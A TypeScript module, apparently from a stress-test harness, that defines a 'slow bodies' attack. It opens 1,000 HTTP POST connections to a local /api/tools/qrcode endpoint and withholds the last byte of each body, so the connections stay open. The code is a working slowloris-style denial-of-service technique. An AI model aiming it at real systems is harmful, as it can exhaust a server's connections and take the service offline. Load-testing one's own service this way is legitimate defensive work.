import type { Attack } from './attack.ts'
import { holdConnections } from './heldConnections.ts'

const body = JSON.stringify({ data: 'x'.repeat(280) })

/** Uploads that stop before their last byte. */
export const slowBodies: Attack = {
  name: '1,000 slow bodies',
  start(target) {
    const head = [
      'POST /api/tools/qrcode HTTP/1.1',
      'Host: localhost',
      `X-Wallet-Address: ${target.wallet}`,
      'Content-Type: application/json',
      `Content-Length: ${body.length}`,
      '',
      body.slice(0, -1),
    ]
    return holdConnections(target, { count: 1_000, bytes: head.join('\r\n'), reads: true })
  },
}
